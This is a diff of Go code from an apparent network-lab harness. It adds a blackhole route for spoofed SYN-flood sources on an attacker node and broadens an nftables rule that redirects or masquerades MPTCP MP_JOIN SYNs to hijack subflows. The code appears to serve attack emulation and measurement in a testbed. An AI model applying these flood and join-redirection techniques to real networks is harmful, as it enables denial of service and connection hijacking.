@@ -70,6 +70,7 @@ import (
 
 	"github.com/google/nftables"
 	"github.com/google/nftables/expr"
+	"github.com/vishvananda/netlink"
 	"golang.org/x/net/ipv4"
 	"golang.org/x/sys/unix"
 
@@ -863,6 +864,21 @@ func AddAddrHMAC(senderKey, peerKey uint64, id uint8, addr netip.Addr, port uint
 // sources to the target and counts, on the attacker's tap, what the
 // target sends back to those sources.
 func (r *Run) startSYNFlood(ctx context.Context) error {
+	// The server's answers to the spoofed sources end here silently, as at
+	// an address that does not answer: without the route the attacker's
+	// kernel would send ICMP net unreachable, which makes the server drop
+	// the half-open connection (tcp_req_err) and so hides the SYN/ACK
+	// retransmissions that a real flood's victim sends.
+	dst := &net.IPNet{IP: floodSources.Addr().AsSlice(), Mask: net.CIDRMask(floodSources.Bits(), 32)}
+	if err := r.lab.Do(r.cfg.Attacker, func() error {
+		return netlink.RouteAdd(&netlink.Route{Dst: dst, Type: unix.RTN_BLACKHOLE})
+	}); err != nil {
+		return fmt.Errorf("attack: blackhole route for %s in %s: %w", floodSources, r.cfg.Attacker, err)
+	}
+	node := r.cfg.Attacker
+	r.cleanup = append(r.cleanup, func() {
+		_ = r.lab.Do(node, func() error { return netlink.RouteDel(&netlink.Route{Dst: dst, Type: unix.RTN_BLACKHOLE}) })
+	})
 	s, err := r.openSender()
 	if err != nil {
 		return err
@@ -923,20 +939,24 @@ func randomFloodSource() netip.Addr {
 }
 
 // startJoinSubst installs, in the attacker node, an nftables NAT rule for
-// MP_JOIN SYNs toward the target (tcp option 30, subtype 1): DNAT to the
-// node's own address and the target's port, where an MPTCP listener
-// accepts (join-redirect), or SNAT to its own address (join-masquerade).
+// MP_JOIN SYNs toward the target's address (tcp option 30, subtype 1; any
+// port, so the prober's joins too): DNAT to the node's own address, ports
+// unchanged, where MPTCP listeners on the target's and the prober's ports
+// accept (join-redirect), or SNAT to its own address (join-masquerade).
 // Stop reads the rule's counter (attack.injected: joins rewritten) and
 // removes the table.
 func (r *Run) startJoinSubst() error {
 	own := r.lab.Addr(r.cfg.Attacker)
-	if r.cfg.Kind == JoinRedirect {
+	for _, port := range []uint16{r.cfg.Target.Port(), r.cfg.ProbePort} {
+		if r.cfg.Kind != JoinRedirect {
+			break
+		}
 		var ln net.Listener
 		err := r.lab.Do(r.cfg.Attacker, func() error {
 			var lc net.ListenConfig
 			lc.SetMultipathTCP(true)
 			var err error
-			ln, err = lc.Listen(context.Background(), "tcp4", netip.AddrPortFrom(own, r.cfg.Target.Port()).String())
+			ln, err = lc.Listen(context.Background(), "tcp4", netip.AddrPortFrom(own, port).String())
 			return err
 		})
 		if err != nil {
@@ -974,8 +994,6 @@ func (r *Run) startJoinSubst() error {
 			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
 			&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseNetworkHeader, Offset: 16, Len: 4},
 			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: dst[:]},
-			&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 2, Len: 2},
-			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: binary.BigEndian.AppendUint16(nil, r.cfg.Target.Port())},
 			// SYN without ACK
 			&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
 			&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.SYN | mptcpwire.ACK}, Xor: []byte{0}},
@@ -987,11 +1005,9 @@ func (r *Run) startJoinSubst() error {
 			&expr.Counter{},
 			&expr.Immediate{Register: 1, Data: a[:]},
 		}
-		nat := &expr.NAT{Type: typ, Family: unix.NFPROTO_IPV4, RegAddrMin: 1, Specified: true}
-		if r.cfg.Kind == JoinRedirect {
-			exprs = append(exprs, &expr.Immediate{Register: 2, Data: binary.BigEndian.AppendUint16(nil, r.cfg.Target.Port())})
-			nat.RegProtoMin = 2
-		}
+		// Ports unchanged: a redirected join reaches the other peer's
+		// listener on the port it was sent to.
+		nat := &expr.NAT{Type: typ, Family: unix.NFPROTO_IPV4, RegAddrMin: 1}
 		c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: append(exprs, nat)})
 		if err := c.Flush(); err != nil {
 			return fmt.Errorf("attack: nftables %s rule: %w", r.cfg.Kind, err)
